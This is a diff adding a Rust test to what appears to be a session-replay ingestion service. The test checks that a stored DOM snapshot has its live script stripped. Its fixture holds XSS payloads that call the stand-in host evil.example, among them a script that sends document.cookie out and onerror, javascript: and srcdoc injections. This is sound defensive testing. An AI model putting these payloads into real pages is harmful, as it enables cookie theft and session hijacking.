@@ -216,6 +216,48 @@ fn contains(hay: &[u8], needle: &str) -> bool {
     hay.windows(needle.len()).any(|w| w == needle.as_bytes())
 }
 
+/// Issue 12 item 4: a full snapshot carrying live script is stored without it (read API),
+/// its nodes kept so the replay still renders.
+#[test]
+fn live_script_in_a_snapshot_is_neutralized_before_storage() {
+    let s = id("s");
+    let page = json!([
+        {"type": 2, "tagName": "script", "attributes": {}, "id": 10, "childNodes": [
+            text_node(11, "fetch('//evil.example/'+document.cookie)")]},
+        {"type": 2, "tagName": "img", "attributes": {"src": "/a.png", "onerror": "fetch('//evil.example/img')"}, "id": 12, "childNodes": []},
+        {"type": 2, "tagName": "a", "attributes": {"href": "javascript:fetch('//evil.example/a')"}, "id": 13, "childNodes": [text_node(14, "Open")]},
+        {"type": 2, "tagName": "iframe", "attributes": {"srcdoc": "<script>fetch('//evil.example/f')</script>"}, "id": 15, "childNodes": []}
+    ]);
+    let events = json!([
+        {"type": 4, "data": {"href": "http://localhost:8787/x", "width": 800, "height": 600}, "timestamp": TS},
+        snapshot(page)
+    ]);
+    let r = ingest(&beacon(&s, &id("v"), 0, "web", &events), &[LOCAL, TEXT]);
+    assert_eq!(r.status, 202, "{}", r.text());
+    let stored = stored_chunk(&s);
+    for bad in [
+        "evil.example",
+        "document.cookie",
+        "onerror",
+        "javascript:",
+        "srcdoc",
+        "<script>",
+    ] {
+        assert!(!stored.contains(bad), "{bad:?} stored: {stored}");
+    }
+    let chunk: Value = serde_json::from_str(&stored).unwrap();
+    let text = chunk.to_string();
+    for kept in [
+        "\"SCRIPT_PLACEHOLDER\"",
+        "\"tagName\":\"iframe\"",
+        "\"src\":\"/a.png\"",
+        "\"href\":\"about:blank#blocked\"",
+        "\"textContent\":\"Open\"",
+    ] {
+        assert!(text.contains(kept), "{kept} missing: {text}");
+    }
+}
+
 #[test]
 fn hostile_inputs_get_clear_errors_and_the_worker_keeps_serving() {
     let started = Instant::now();
